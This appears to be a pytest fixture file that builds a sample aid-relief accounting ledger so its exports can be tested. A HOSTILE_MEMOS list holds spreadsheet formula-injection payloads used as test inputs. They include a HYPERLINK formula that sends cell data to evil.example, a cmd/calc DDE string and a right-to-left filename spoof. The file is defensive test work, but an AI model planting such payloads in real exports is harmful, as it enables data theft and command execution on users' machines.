"""A small but complete aid ledger on each backend, for the exports to write out.

It holds cash and foreign-currency donations, a pledge fulfilled in part, a
restricted fund and a release from it, a programme paying households (paid,
failed and returned payments), goods received, delivered and written off (in
packages and in tonnes with three decimals), a housing grant committed, partly
disbursed and clawed back, a reversal and a correction, entries in three time
zones (some late at night, where the local date is not the UTC date), and memos
full of text that spreadsheets, Beancount and hledger could misread.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from decimal import Decimal

import pendulum
import pytest

from aidledger import (
    FOOD_PACKAGE,
    RELIEF_GOODS,
    Aid,
    JournalEntry,
    Ledger,
    LossReason,
    Money,
    PaymentLine,
    PaymentStatus,
    Posting,
    ProviderLine,
    Pseudonymizer,
    Quantity,
    Restriction,
    TrialBalance,
    ValuationBasis,
)

KEYS = Pseudonymizer({1: bytes(range(32))})


def almaty(month: int, day: int, hour: int = 10, minute: int = 0) -> pendulum.DateTime:
    return pendulum.datetime(2020, month, day, hour, minute, tz="Asia/Almaty")


def kzt(amount: str) -> Money:
    return Money(amount, "KZT")


#: Memos that a spreadsheet would evaluate or that break naive quoting, one per entry that carries it.
HOSTILE_MEMOS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =cmd|' /C calc'!A0",
    "'quoted already",
    'He said "hello", then left; twice.\nSecond line\r\nThird line',
    "right-to-left \u202eexe.fdp\u202c and \u200fمرحبا\u200f; tab\there",
    'back\\slash \\" and "" doubled',
    "trailing space ",
    "(looks like a code) * ! ; not a comment",
)

#: A memo that names a payee with commas, for the CSV round trip.
COMMA_MEMO = "Donor: Smith, John, Jr.; ref 1,234.56"


@pytest.fixture
def aid_ledger(url: str) -> Iterator[Ledger]:
    """A ledger with one of everything aidledger's operations post, on SQLite and PostgreSQL."""
    with Ledger.open(url) as ledger:
        build_aid_ledger(Aid(ledger, approval_threshold=kzt("10000000")))
        yield ledger


def build_aid_ledger(aid: Aid) -> None:
    """Post the small campaign of this module's docstring through ``aid``."""
    memos = iter(HOSTILE_MEMOS)
    aid.create_fund("GENERAL", name="Unrestricted")
    aid.create_fund("CASH-AID", name="One-off cash aid", purpose="cash-aid")
    aid.create_fund("FOOD", name="Food packages", purpose="food")
    aid.create_fund("FLOOD", name="Relief goods", purpose="flood-relief")
    aid.create_fund("HOUSING", name="Housing for flooded villages", purpose="housing")
    aid.create_fund("RESERVE", name="Board reserve", purpose="cash-aid", restriction=Restriction.BOARD)

    # Money in: local and foreign currency, one late at night (local date 2 April, UTC date 1 April).
    aid.donate("CASH-AID", kzt("1000000.00"), donor="Halyk Bank", on=almaty(4, 1), actor="cashier",
               source="bank statement 2020-04-01 line 1", memo=next(memos), key="don:1")  # fmt: skip
    aid.donate("CASH-AID", kzt("250000.55"), donor="Smith, John", on=almaty(4, 2, 1, 30), actor="cashier",
               memo=COMMA_MEMO, key="don:2")  # fmt: skip
    aid.donate_foreign("CASH-AID", Money("1000.00", "USD"), rate="425.50", rate_date=dt.date(2020, 3, 31),
                       donor="Diaspora fund", on=almaty(4, 3), actor="cashier", memo=next(memos),
                       key="don:usd")  # fmt: skip
    aid.donate_foreign("GENERAL", Money("2500.01", "EUR"), rate="460.10", rate_date=dt.date(2020, 4, 2),
                       converted=False, donor="EU citizens", actor="cashier", memo=next(memos),
                       on=pendulum.datetime(2020, 4, 4, 0, 30, tz="Europe/Berlin"), key="don:eur")  # fmt: skip
    aid.donate("GENERAL", kzt("5000000"), donor="Private donors", on=almaty(4, 3, 12), actor="cashier",
               memo=next(memos), key="don:general")  # fmt: skip
    aid.designate("GENERAL", kzt("1000000"), to="RESERVE", on=almaty(4, 4), actor="board",
                  reason=next(memos), key="designate")  # fmt: skip

    # A restricted fund paying households: paid, failed, returned.
    aid.create_programme("FAM-50K", fund="CASH-AID", purpose="cash-aid", amount=kzt("50000"), actor="officer",
                         name="50,000 KZT once per family")  # fmt: skip
    lines = [PaymentLine(KEYS.pseudonym(f"KZ-HH-{n}"), f"F{n}", region="Abai") for n in range(1, 5)]
    aid.pay("FAM-50K", lines, actor="officer", on=almaty(4, 6), list_code="FAM-1")
    aid.send("FAM-1", provider="Kazpost", actor="cashier", on=almaty(4, 6, 14))
    report = [
        ProviderLine("F1", PaymentStatus.PAID, kzt("50000")),
        ProviderLine("F2", PaymentStatus.FAILED, kzt("50000")),
        ProviderLine("F3", PaymentStatus.PAID, kzt("50000")),
        ProviderLine("F4", PaymentStatus.PAID, kzt("50000")),
    ]
    aid.settle("FAM-1", report, actor="cashier", on=almaty(4, 8))
    aid.settle("FAM-1", [ProviderLine("F3", PaymentStatus.RETURNED, kzt("50000"))], actor="cashier", on=almaty(4, 11))

    # Goods: packages and tonnes (three decimals), received, delivered, written off.
    aid.receive_goods("FOOD", Quantity("100", FOOD_PACKAGE), value=kzt("1500000"), basis=ValuationBasis.MARKET_PRICE,
                      donor="Magnum", on=almaty(4, 3), actor="storekeeper", source="waybill 117",
                      memo=next(memos), key="goods:in")  # fmt: skip
    aid.deliver("FOOD", Quantity("1", FOOD_PACKAGE), purpose="food", to=KEYS.pseudonym("KZ-HH-1"),
                programme="food-2020", region="Abai", on=almaty(4, 10), actor="storekeeper",
                key="goods:out:1")  # fmt: skip
    aid.deliver("FOOD", Quantity("30", FOOD_PACKAGE), purpose="food", settlement="Dostyk", on=almaty(4, 10, 23, 59),
                actor="storekeeper", key="goods:out:2")  # fmt: skip
    aid.write_off("FOOD", Quantity("3", FOOD_PACKAGE), reason=LossReason.SPOILAGE, on=almaty(4, 12),
                  actor="storekeeper", memo=next(memos), key="goods:lost")  # fmt: skip
    aid.receive_goods("FLOOD", Quantity("12.345", RELIEF_GOODS), value=kzt("6172500.00"),
                      basis=ValuationBasis.APPRAISAL, donor="Relief donor", on=almaty(5, 2), actor="storekeeper",
                      key="relief:in")  # fmt: skip
    aid.deliver("FLOOD", Quantity("10.001", RELIEF_GOODS), purpose="flood-relief", settlement="Dostyk",
                on=almaty(5, 3), actor="storekeeper", key="relief:out")  # fmt: skip

    # Housing: a pledge fulfilled in part, a grant committed, partly disbursed and clawed back.
    aid.pledge("HOUSING", kzt("3000000"), code="KAZAKHMYS-2020", donor="Kazakhmys", on=almaty(7, 1), actor="cashier",
               due=dt.date(2020, 12, 31))  # fmt: skip
    aid.fulfil_pledge("KAZAKHMYS-2020", kzt("1200000.50"), actor="cashier", key="pledge:1",
                      on=pendulum.datetime(2020, 7, 15, 10, tz=pendulum.FixedTimezone(5 * 3600)))  # fmt: skip
    aid.commit_grant("DOSTYK", fund="HOUSING", amount=kzt("2000000"), purpose="housing", grantee="Dostyk LLP",
                     description="Rebuild 2 houses", on=almaty(7, 20), actor="director")  # fmt: skip
    aid.disburse("DOSTYK", kzt("800000"), milestone="foundations", on=almaty(8, 10), actor="officer", key="tr:1")
    aid.claw_back("DOSTYK", kzt("100000.25"), reason=next(memos), on=almaty(9, 1), actor="director", key="claw")

    # A reversal and a correction (reversal plus replacement), both pointing at their originals.
    twice = aid.donate("GENERAL", kzt("750000"), donor="Private donors", on=almaty(5, 14), actor="cashier",
                       memo=next(memos), key="don:twice")  # fmt: skip
    aid.ledger.reverse(twice.id, actor="accountant", memo=next(memos), idempotency_key="rev")
    wrong = aid.donate("GENERAL", kzt("1000"), donor="Typo", on=almaty(5, 15), actor="cashier", key="don:typo")
    bank, income = aid.chart.bank(aid.currency), aid.chart.donations(aid.currency)
    general = aid.ledger.fund("GENERAL")
    replacement = JournalEntry(
        kind="donation",
        effective_at=almaty(5, 15),
        postings=[
            Posting.debit(bank, general, kzt("100.00")),
            Posting.credit(income, general, kzt("100.00")),
        ],
        actor="accountant",
        memo=next(memos),
        tags={"donor": "Typo"},
    )
    aid.correct(wrong.id, replacement, actor="accountant", on=almaty(5, 16), reason=next(memos), key="fix")
    aid.release("CASH-AID", kzt("10000"), to="GENERAL", on=almaty(12, 28), actor="board", reason=next(memos),
                key="release")  # fmt: skip
    left = list(memos)
    assert not left, f"memos not used: {left}"


def totals_of(balance: TrialBalance) -> dict[tuple[str, str], tuple[Decimal, str]]:
    """The trial balance as {(account code, fund code): (signed value, unit code)}, non-zero lines only."""
    found: dict[tuple[str, str], tuple[Decimal, str]] = {}
    for line in balance.lines:
        found[(line.account.code, line.fund.code)] = (line.balance.value, line.balance.unit.code)
    return found


def nonzero(sums: dict[tuple[str, str], tuple[Decimal, str]]) -> dict[tuple[str, str], tuple[Decimal, str]]:
    """``sums`` without the zero balances."""
    return {k: v for k, v in sums.items() if v[0] != 0}
